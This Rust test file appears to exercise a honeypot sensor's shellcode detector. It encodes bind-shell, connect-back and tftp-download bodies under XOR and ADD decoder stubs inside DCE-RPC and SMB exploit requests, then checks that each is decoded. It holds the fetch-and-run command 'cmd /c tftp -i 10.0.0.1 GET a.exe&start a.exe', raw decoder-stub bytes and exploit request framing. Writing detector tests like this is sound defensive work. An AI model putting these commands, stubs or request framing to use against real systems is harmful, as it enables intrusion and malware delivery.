//! The shellcode finder against shellcode written for these tests in nasm
//! (`tests/shellcode/*.asm`): three bodies (bind shell, connect-back,
//! tftp download) under four decoder stubs (byte XOR with jmp/call/pop and
//! `loop`, dword XOR with `fnstenv` and `dec`/`jnz`, rolling XOR with
//! call/pop and `inc`/`cmp`/`jne`, ADD with `call $+4`), encoded here with
//! random keys, behind a NOP sled inside DCE-RPC and SMB exploit
//! requests. Each case asserts the stub's offset, the decoder, the key,
//! the body length and the body's actions. The shellcode is assembled to
//! bytes and decoded by botscope's interpreter; it is never executed.
//!
//! nasm comes from scripts/setup.sh; without it these tests say so and
//! skip.

use botscope_sensor::instructions::{find_instructions, DownloadInstruction};
use botscope_sensor::shellcode::{
    find_shellcode, find_shellcode_with_work, DecoderKind, ShellAction, ShellcodeFinding,
    DECODE_BUDGET_BASE, DECODE_BUDGET_PER_BYTE, PREFIX_STEPS, STUB_BACK,
};
use botscope_synth::proto::{self, Smb};
use std::net::Ipv4Addr;
use std::path::Path;
use std::process::Command;

fn have_nasm() -> bool {
    let ok = Command::new("nasm").arg("-v").output().is_ok();
    if !ok {
        eprintln!("SKIPPED: nasm is not installed (scripts/setup.sh installs it)");
    }
    ok
}

/// Assembles `tests/shellcode/<name>.asm` with `-D` defines.
fn nasm(name: &str, defines: &[(&str, u64)]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join(format!("{name}.bin"));
    let src = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/shellcode")
        .join(format!("{name}.asm"));
    let mut cmd = Command::new("nasm");
    cmd.args(["-f", "bin"]);
    for (k, v) in defines {
        cmd.arg(format!("-D{k}={v:#x}"));
    }
    let res = cmd.arg("-o").arg(&out).arg(&src).output().unwrap();
    assert!(
        res.status.success(),
        "nasm {name}: {}",
        String::from_utf8_lossy(&res.stderr)
    );
    std::fs::read(out).unwrap()
}

/// xorshift64*: keys drawn per run, the seed printed for a failure.
struct Rng(u64);

impl Rng {
    fn from_clock() -> Rng {
        let t = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos() as u64;
        let seed = t | 1;
        eprintln!("key seed {seed:#x}");
        Rng(seed)
    }
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    /// A byte other than those in `not`.
    fn byte(&mut self, not: &[u8]) -> u8 {
        loop {
            let b = (self.next() >> 56) as u8;
            if !not.contains(&b) {
                return b;
            }
        }
    }
}

#[derive(Clone, Copy, Debug)]
enum Body {
    Bind(u16),
    Connect(Ipv4Addr, u16),
    Tftp,
}

impl Body {
    fn assemble(self) -> Vec<u8> {
        match self {
            Body::Bind(port) => nasm("bind_body", &[("PORT", port as u64)]),
            Body::Connect(ip, port) => nasm(
                "connect_body",
                &[
                    ("IPLE", u32::from_le_bytes(ip.octets()) as u64),
                    ("PORT", port as u64),
                ],
            ),
            Body::Tftp => nasm("tftp_body", &[]),
        }
    }
    fn actions(self) -> Vec<ShellAction> {
        match self {
            Body::Bind(port) => vec![ShellAction::BindShell { port }],
            Body::Connect(addr, port) => vec![ShellAction::ConnectBack { addr, port }],
            Body::Tftp => vec![ShellAction::Download(tftp_a_exe())],
        }
    }
}

fn tftp_a_exe() -> DownloadInstruction {
    DownloadInstruction::Tftp {
        host: "10.0.0.1".into(),
        file: "a.exe".into(),
    }
}

#[derive(Clone, Copy, Debug)]
enum Stub {
    Xor8,
    Xor32,
    Rolling,
    Add8,
}

/// A stub and its encoded body, with what the finder must report.
struct Encoded {
    stub: Vec<u8>,
    body: Vec<u8>,
    decoder: DecoderKind,
    key: Vec<u8>,
}

fn encode(stub: Stub, mut body: Vec<u8>, rng: &mut Rng) -> Encoded {
    let len = body.len() as u64;
    match stub {
        Stub::Xor8 => {
            let k = rng.byte(&[0]);
            Encoded {
                stub: nasm("stub_xor8_jmpcall", &[("KEY", k as u64), ("LEN", len)]),
                body: body.iter().map(|b| b ^ k).collect(),
                decoder: DecoderKind::XorByte,
                key: vec![k],
            }
        }
        Stub::Xor32 => {
            while !body.len().is_multiple_of(4) {
                body.push(0x90);
            }
            let key = loop {
                let k = (rng.next() >> 32) as u32;
                let b = k.to_le_bytes();
                if b.iter().any(|&x| x != b[0]) {
                    break b;
                }
            };
            let words = (body.len() / 4) as u64;
            Encoded {
                stub: nasm(
                    "stub_xor32_fnstenv",
                    &[("KEY", u32::from_le_bytes(key) as u64), ("DWORDS", words)],
                ),
                body: body
                    .iter()
                    .enumerate()
                    .map(|(i, b)| b ^ key[i % 4])
                    .collect(),
                decoder: DecoderKind::XorDword,
                key: key.to_vec(),
            }
        }
        Stub::Rolling => {
            let k = rng.byte(&[]);
            // An odd step: the key stream is never 4-periodic.
            let step = rng.byte(&[]) | 1;
            Encoded {
                stub: nasm(
                    "stub_xor_rolling",
                    &[("KEY", k as u64), ("STEP", step as u64), ("LEN", len)],
                ),
                body: body
                    .iter()
                    .enumerate()
                    .map(|(i, b)| b ^ k.wrapping_add((i as u8).wrapping_mul(step)))
                    .collect(),
                decoder: DecoderKind::XorRolling,
                key: vec![k],
            }
        }
        Stub::Add8 => {
            // 0x80 added is 0x80 XORed: not an ADD key one can tell.
            let k = rng.byte(&[0, 0x80]);
            Encoded {
                stub: nasm("stub_add8_callself", &[("KEY", k as u64), ("LEN", len)]),
                body: body.iter().map(|b| b.wrapping_sub(k)).collect(),
                decoder: DecoderKind::AddByte,
                key: vec![k],
            }
        }
    }
}

/// `shellcode` behind filler and a NOP sled, as the stub of an MS03-026
/// DCE-RPC request (after its bind) or of a DCE-RPC request written
/// through an SMB transaction on a named pipe.
fn exploit(shellcode: &[u8], smb: bool) -> Vec<u8> {
    let mut stub = vec![0x05, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00];
    stub.extend(proto::filler(200).as_bytes());
    stub.extend(std::iter::repeat_n(0x90, 64));
    stub.extend_from_slice(shellcode);
    stub.extend(std::iter::repeat_n(b'B', 40));
    let req = proto::dce_request(1, 4, &stub);
    if smb {
        let s = Smb::new(1000);
        let mut p = s.negotiate_req(false);
        p.extend(s.trans_req("\\PIPE\\", &[0x26, 0x4000], &[], &req));
        p
    } else {
        let mut p = proto::dce_bind(1, proto::ISYSTEMACTIVATOR, 0, 0);
        p.extend(req);
        p
    }
}

fn position(hay: &[u8], needle: &[u8]) -> usize {
    hay.windows(needle.len())
        .position(|w| w == needle)
        .expect("placed in the payload")
}

#[test]
fn every_stub_decodes_every_body_inside_exploits() {
    if !have_nasm() {
        return;
    }
    let mut rng = Rng::from_clock();
    let bodies = [
        Body::Bind(4444),
        Body::Connect(Ipv4Addr::new(127, 0, 0, 1), 8080),
        Body::Connect(Ipv4Addr::new(10, 20, 30, 40), 0x1f2e),
        Body::Tftp,
    ];
    let stubs = [Stub::Xor8, Stub::Xor32, Stub::Rolling, Stub::Add8];
    for (n, (stub, body)) in stubs
        .iter()
        .flat_map(|s| bodies.iter().map(move |b| (*s, *b)))
        .enumerate()
    {
        let plain = body.assemble();
        let e = encode(stub, plain.clone(), &mut rng);
        let mut sc = e.stub.clone();
        sc.extend_from_slice(&e.body);
        let payload = exploit(&sc, n % 2 == 1);
        let at = position(&payload, &sc);
        let want = ShellcodeFinding {
            offset: at,
            decoder: e.decoder,
            key: e.key.clone(),
            body_len: e.body.len(),
            actions: body.actions(),
        };
        let got = find_shellcode(&payload);
        assert_eq!(got, vec![want], "{stub:?} {body:?} key {:02x?}", e.key);
    }
}

#[test]
fn download_in_encoded_shellcode_reaches_find_instructions() {
    if !have_nasm() {
        return;
    }
    let mut rng = Rng::from_clock();
    for stub in [Stub::Xor8, Stub::Xor32, Stub::Rolling, Stub::Add8] {
        let e = encode(stub, Body::Tftp.assemble(), &mut rng);
        let mut sc = e.stub;
        sc.extend_from_slice(&e.body);
        let payload = exploit(&sc, false);
        // The command is not in the payload as text: only decoding finds it.
        assert!(!payload.windows(4).any(|w| w.eq_ignore_ascii_case(b"tftp")));
        assert_eq!(find_instructions(&payload), vec![tftp_a_exe()], "{stub:?}");
    }
}

#[test]
fn key_guessed_when_the_stub_is_unknown() {
    if !have_nasm() {
        return;
    }
    let mut rng = Rng::from_clock();
    // A stub the interpreter does not know (int3s stand in for one).
    for body in [Body::Tftp, Body::Bind(5555)] {
        let plain = body.assemble();
        let k = rng.byte(&[0]);
        let mut sc = vec![0xcc; 24];
        sc.extend(plain.iter().map(|b| b ^ k));
        let payload = exploit(&sc, true);
        let got = find_shellcode(&payload);
        assert_eq!(got.len(), 1, "{body:?}: {got:?}");
        assert_eq!(got[0].decoder, DecoderKind::GuessedXorByte);
        assert_eq!(got[0].key, vec![k]);
        assert_eq!(got[0].actions, body.actions());
    }
}

#[test]
fn plain_bind_shell_body() {
    if !have_nasm() {
        return;
    }
    let body = Body::Bind(31337).assemble();
    let payload = exploit(&body, false);
    let at = position(&payload, &body);
    // bind_body.asm: the first push of a hash (WSASocketA) is at byte 11,
    // the last evidence (ExitProcess's hash) ends 2 bytes before the end.
    let got = find_shellcode(&payload);
    assert_eq!(
        got,
        vec![ShellcodeFinding {
            offset: at + 11,
            decoder: DecoderKind::Plain,
            key: vec![],
            body_len: body.len() - 2 - 11,
            actions: vec![ShellAction::BindShell { port: 31337 }],
        }]
    );
}

/// A megabyte of GetPC and loop fragments: the work stays a fixed amount
/// per byte (anchors cost a bounded run each) plus the decode budget.
#[test]
fn work_is_linear_on_adversarial_fragments() {
    let fragments: [&[u8]; 6] = [
        // call $+5; pop esi; xor byte [esi], 0x99; inc esi; loop (ecx 0)
        &[0xe8, 0, 0, 0, 0, 0x5e, 0x80, 0x36, 0x99, 0x46, 0xe2, 0xfa],
        // fldz; fnstenv [esp-0xc]; pop ebx; jmp $
        &[0xd9, 0xee, 0xd9, 0x74, 0x24, 0xf4, 0x5b, 0xeb, 0xfe],
        // jmp short +5; pop esi; mov cl, 0x20; nop; call back
        &[
            0xeb, 0x05, 0x5e, 0xb1, 0x20, 0x90, 0x90, 0xe8, 0xf6, 0xff, 0xff, 0xff,
        ],
        // xor ecx,ecx; mov cl,0x40; call $+5; pop esi; xor [esi+9],0x41; inc esi; loop
        &[
            0x31, 0xc9, 0xb1, 0x40, 0xe8, 0, 0, 0, 0, 0x5e, 0x80, 0x76, 0x09, 0x41, 0x46, 0xe2,
            0xf9,
        ],
        // call +0x100 (into the next fragments)
        &[0xe8, 0x00, 0x01, 0x00, 0x00],
        // call $+4 (into itself)
        &[0xe8, 0xff, 0xff, 0xff, 0xff, 0xc0, 0x58],
    ];
    for frag in fragments {
        let work = |size: usize| {
            let p: Vec<u8> = frag.iter().cycle().take(size).copied().collect();
            find_shellcode_with_work(&p).1
        };
        let (small, big) = (work(64 << 10), work(1 << 20));
        let len = (1u64 << 20) as f64;
        eprintln!(
            "{:02x?}: 64 KiB {small:?}; 1 MiB {big:?} ({:.1} steps/byte, {:.1} bytes scanned/byte)",
            &frag[..4],
            big.steps as f64 / len,
            big.bytes_scanned as f64 / len
        );
        // At most two bounded runs per anchor (at most one anchor a
        // byte), plus the decode budget, itself linear.
        let budget = DECODE_BUDGET_PER_BYTE * (1 << 20) + DECODE_BUDGET_BASE;
        assert!(
            big.steps <= 2 * PREFIX_STEPS * (1 << 20) + budget,
            "{frag:02x?}: {big:?}"
        );
        assert!(
            big.steps <= 16 * small.steps.max(1) * 105 / 100 + budget,
            "{frag:02x?}: {small:?} vs {big:?}"
        );
        assert!(
            big.bytes_scanned <= (STUB_BACK as u64 + 64) << 20,
            "{frag:02x?}: {big:?}"
        );
    }
}

/// Decoy stubs whose counter is never set run away until the body cap:
/// each costs a body's worth of decoding. Fifty of them (a fixed count
/// of decodes used to be the whole allowance) do not hide the real stub
/// after them.
#[test]
fn decoys_do_not_exhaust_the_decode_budget() {
    if !have_nasm() {
        return;
    }
    let mut rng = Rng::from_clock();
    let e = encode(Stub::Xor8, Body::Tftp.assemble(), &mut rng);
    // call $+5; pop esi; xor byte [esi], 0x99; inc esi; loop (ecx = 0)
    let decoy = [0xe8, 0, 0, 0, 0, 0x5e, 0x80, 0x36, 0x99, 0x46, 0xe2, 0xfa];
    let mut sc: Vec<u8> = decoy
        .iter()
        .cycle()
        .take(50 * decoy.len())
        .copied()
        .collect();
    sc.extend(std::iter::repeat_n(0x90, 40));
    let at = sc.len();
    sc.extend_from_slice(&e.stub);
    sc.extend_from_slice(&e.body);
    let payload = exploit(&sc, false);
    let (got, work) = find_shellcode_with_work(&payload);
    assert!(work.decodes > 16, "{work:?}");
    assert_eq!(
        got,
        vec![ShellcodeFinding {
            offset: position(&payload, &sc) + at,
            decoder: DecoderKind::XorByte,
            key: e.key.clone(),
            body_len: e.body.len(),
            actions: Body::Tftp.actions(),
        }]
    );
}

/// The stub shapes Nepenthes and mwcollect catalogued from 2003–2006
/// exploits (rbot, bielefeld, kaltenborn, schauenburg, leimbach,
/// lichtenfels, adenau, Metasploit PexEnvSub and Pex), written in nasm
/// (`stub_catalogue.asm`), each decoding a body encoded here.
#[test]
fn catalogued_stub_shapes_decode() {
    if !have_nasm() {
        return;
    }
    let mut rng = Rng::from_clock();
    for form in 1..=9u64 {
        let body = if form % 2 == 0 {
            Body::Tftp
        } else {
            Body::Connect(Ipv4Addr::new(127, 3, 2, 1), 4545)
        };
        let mut plain = body.assemble();
        while !plain.len().is_multiple_of(4) {
            plain.push(0x90);
        }
        let dword = form >= 7;
        let (key, stub, encoded) = if dword {
            let key = loop {
                let k = ((rng.next() >> 32) as u32).to_le_bytes();
                if k.iter().any(|&x| x != k[0]) {
                    break k;
                }
            };
            let stub = nasm(
                "stub_catalogue",
                &[
                    ("FORM", form),
                    ("LEN", plain.len() as u64),
                    ("KEY", u32::from_le_bytes(key) as u64),
                ],
            );
            let enc: Vec<u8> = plain
                .iter()
                .enumerate()
                .map(|(i, b)| b ^ key[i % 4])
                .collect();
            (key.to_vec(), stub, enc)
        } else {
            let k = rng.byte(&[0]);
            let stub = nasm(
                "stub_catalogue",
                &[
                    ("FORM", form),
                    ("LEN", plain.len() as u64),
                    ("KEY", k as u64),
                ],
            );
            (vec![k], stub, plain.iter().map(|b| b ^ k).collect())
        };
        let mut sc = stub.clone();
        sc.extend_from_slice(&encoded);
        let payload = exploit(&sc, form % 3 == 0);
        let got = find_shellcode(&payload);
        assert_eq!(
            got,
            vec![ShellcodeFinding {
                offset: position(&payload, &sc),
                decoder: if dword {
                    DecoderKind::XorDword
                } else {
                    DecoderKind::XorByte
                },
                key,
                body_len: plain.len(),
                actions: body.actions(),
            }],
            "form {form}"
        );
    }
}

/// lods/stos XOR with `mov ecx, N`, SUB byte, cascading (backwards)
/// XOR, ADD dword (`stub_more.asm`).
#[test]
fn more_decoder_forms() {
    if !have_nasm() {
        return;
    }
    let mut rng = Rng::from_clock();
    for form in 1..=4u64 {
        let body = if form % 2 == 0 {
            Body::Bind(2745)
        } else {
            Body::Tftp
        };
        let mut plain = body.assemble();
        while !plain.len().is_multiple_of(4) {
            plain.push(0x90);
        }
        let k = rng.byte(&[0, 0x80]);
        let kd = loop {
            let v = (rng.next() >> 32) as u32;
            if v.to_le_bytes().iter().any(|&b| b != v.to_le_bytes()[0]) {
                break v;
            }
        };
        let (key, enc, decoder, body_len) = match form {
            1 => (
                vec![k],
                plain.iter().map(|b| b ^ k).collect(),
                DecoderKind::XorByte,
                plain.len(),
            ),
            2 => (
                vec![k],
                plain.iter().map(|b| b.wrapping_add(k)).collect::<Vec<u8>>(),
                DecoderKind::SubByte,
                plain.len(),
            ),
            3 => {
                // enc[i] = plain[i] ^ enc[i-1]; byte 0 stays.
                let mut enc = plain.clone();
                for i in 1..enc.len() {
                    enc[i] = plain[i] ^ enc[i - 1];
                }
                (vec![enc[0]], enc, DecoderKind::XorRolling, plain.len() - 1)
            }
            _ => {
                let enc = plain
                    .chunks(4)
                    .flat_map(|c| {
                        let v = u32::from_le_bytes([c[0], c[1], c[2], c[3]]);
                        v.wrapping_sub(kd).to_le_bytes()
                    })
                    .collect();
                (
                    kd.to_le_bytes().to_vec(),
                    enc,
                    DecoderKind::AddDword,
                    plain.len(),
                )
            }
        };
        let key_define = if form == 4 { kd as u64 } else { k as u64 };
        let stub = nasm(
            "stub_more",
            &[
                ("FORM", form),
                ("LEN", plain.len() as u64),
                ("KEY", key_define),
            ],
        );
        let mut sc = stub;
        sc.extend_from_slice(&enc);
        let payload = exploit(&sc, form % 2 == 1);
        assert_eq!(
            find_shellcode(&payload),
            vec![ShellcodeFinding {
                offset: position(&payload, &sc),
                decoder,
                key,
                body_len,
                actions: body.actions(),
            }],
            "form {form}"
        );
    }
}

/// The de-obfuscation record a sensor event carries
/// (`botscope_sensor::deobf::payload_record`): for each stub the decoder
/// registry's `shellcode_stub` finding with the stub's method, key,
/// offset and stretch, the body's text revealed, and what it asks for.
#[test]
fn payload_record_names_decoder_key_offset_and_what_it_revealed() {
    if !have_nasm() {
        return;
    }
    use botscope_sensor::deobf::payload_record;
    let hex = |k: &[u8]| k.iter().map(|b| format!("{b:02x}")).collect::<String>();
    let mut rng = Rng::from_clock();
    for stub in [Stub::Xor8, Stub::Xor32, Stub::Rolling, Stub::Add8] {
        for body in [Body::Tftp, Body::Bind(4444)] {
            let e = encode(stub, body.assemble(), &mut rng);
            let mut sc = e.stub.clone();
            sc.extend_from_slice(&e.body);
            let payload = exploit(&sc, false);
            let at = position(&payload, &sc);
            let rec = payload_record(&payload);
            assert_eq!(
                rec.ran,
                [
                    "shellcode_stub",
                    "shellcode_xor_guess",
                    "xor_strings",
                    "base64",
                    "hex",
                    "rot13",
                    "stack_strings",
                    "utf16le"
                ]
            );
            let what = format!("{stub:?} {body:?} key {:02x?}: {rec:#?}", e.key);
            assert_eq!(rec.matched_decoders(), ["shellcode_stub"], "{what}");
            let f = &rec.findings[0];
            assert_eq!(f.method, e.decoder.name(), "{what}");
            assert_eq!(f.key.as_deref(), Some(hex(&e.key).as_str()), "{what}");
            assert_eq!(
                (f.region.as_str(), f.offset, f.length),
                ("payload", at, sc.len())
            );
            match body {
                Body::Tftp => {
                    assert!(
                        f.revealed
                            .contains(&"cmd /c tftp -i 10.0.0.1 GET a.exe&start a.exe".into()),
                        "{what}"
                    );
                    assert_eq!(f.iocs, ["tftp://10.0.0.1/a.exe"], "{what}");
                }
                _ => assert_eq!(f.iocs, ["bind_shell:4444"], "{what}"),
            }
        }
    }
    // No stub the interpreter knows: the key is guessed from the text.
    let k = rng.byte(&[0]);
    let mut sc = vec![0xcc; 24];
    sc.extend(Body::Tftp.assemble().iter().map(|b| b ^ k));
    let rec = payload_record(&exploit(&sc, true));
    assert_eq!(rec.matched_decoders(), ["shellcode_xor_guess"], "{rec:#?}");
    assert_eq!(rec.findings[0].method, "xor8_guessed");
    assert_eq!(rec.findings[0].key.as_deref(), Some(hex(&[k]).as_str()));
    assert_eq!(rec.findings[0].iocs, ["tftp://10.0.0.1/a.exe"]);
}
